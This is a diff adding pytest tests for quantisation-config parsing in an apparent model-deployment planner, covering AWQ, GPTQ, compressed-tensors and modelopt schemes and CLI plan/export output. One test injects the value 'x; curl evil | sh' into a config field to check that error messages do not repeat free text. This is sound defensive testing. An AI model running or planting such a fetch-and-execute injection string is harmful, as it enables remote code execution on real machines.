@@ -203,3 +203,48 @@ def test_compressed_tensors_simple_schemes_are_modelled(tmp_path: Path) -> None:
     f8 = _quantised(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {
         "group_0": {"weights": {"num_bits": 8, "type": "float", "strategy": "channel"}}}})
     assert f8.weight_dtype == "fp8" and f8.weights.dense_ffn == "fp8"
+
+
+def test_whole_numbers_written_as_floats_read_as_the_integer(tmp_path: Path) -> None:
+    """"bits": 4.0 is the same checkpoint as "bits": 4; 4.5 and true are no bit width."""
+    whole = _quantised(tmp_path, {"quant_method": "awq", "bits": 4.0, "group_size": 128.0})
+    exact = _quantised(tmp_path, {"quant_method": "awq", "bits": 4, "group_size": 128})
+    assert whole.weights == exact.weights and whole.weights.attention == "int4_g128"
+    for bad in ({"bits": 4.5, "group_size": 128}, {"bits": True, "group_size": 128}, {"bits": 4, "group_size": 128.5}):
+        message = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "gptq", **bad}}))
+        assert "quantization_config." in message and "not modelled" in message
+
+
+def test_w8a8_int8_compressed_tensors_is_one_byte_a_weight(tmp_path: Path) -> None:
+    """SmoothQuant-style W8A8-INT8: one byte a weight with per-channel scales; embeddings BF16."""
+    w = _quantised(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {
+        "group_0": {"weights": {"num_bits": 8, "type": "int", "strategy": "channel"}}}})
+    hand = _bytes_by_hand(w, {"attention": 1.0, "dense_ffn": 1.0, "routed_experts": 1.0, "shared_experts": 1.0, "embeddings": 2.0})
+    assert w.weight_bytes == pytest.approx(hand, rel=1e-9)
+
+
+def test_a_refused_scheme_is_named_but_free_text_is_not_repeated(tmp_path: Path) -> None:
+    named = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "modelopt", "quant_algo": "W4A8_AWQ"}}))
+    assert "'W4A8_AWQ'" in named
+    hostile = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "modelopt", "quant_algo": "x; curl evil | sh"}}))
+    assert "curl" not in hostile and "quant_algo a string" in hostile
+
+
+def test_a_quantised_import_plans_and_exports_as_its_formats_not_bf16(tmp_path: Path) -> None:
+    """The plan's header, its document and the export name the int4 weights an AWQ
+    checkpoint ships; the shorthand alone (bf16 for integer formats) would mislead."""
+    from typer.testing import CliRunner
+
+    from planner.cli.main import app
+
+    path = _write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "awq", "bits": 4, "group_size": 128}})
+    out_json = tmp_path / "plan.json"
+    res = CliRunner().invoke(app, ["plan", "--workload", str(path), "--topology", "hgx-h100", "--out", str(out_json)])
+    assert res.exit_code == 0, res.output
+    assert "int4_g128 weights, embeddings bf16" in res.output.splitlines()[0]
+    doc = json.loads(out_json.read_text())
+    assert doc["inputs"]["precision"]["weight_formats"]["dense_ffn"] == "int4_g128"
+    assert doc["inputs"]["precision"]["weight_formats"]["embeddings"] == "bf16"
+    exported = CliRunner().invoke(app, ["export", str(out_json), "--engine", "vllm"])
+    assert exported.exit_code == 0, exported.output
+    assert "int4_g128 weights" in exported.output
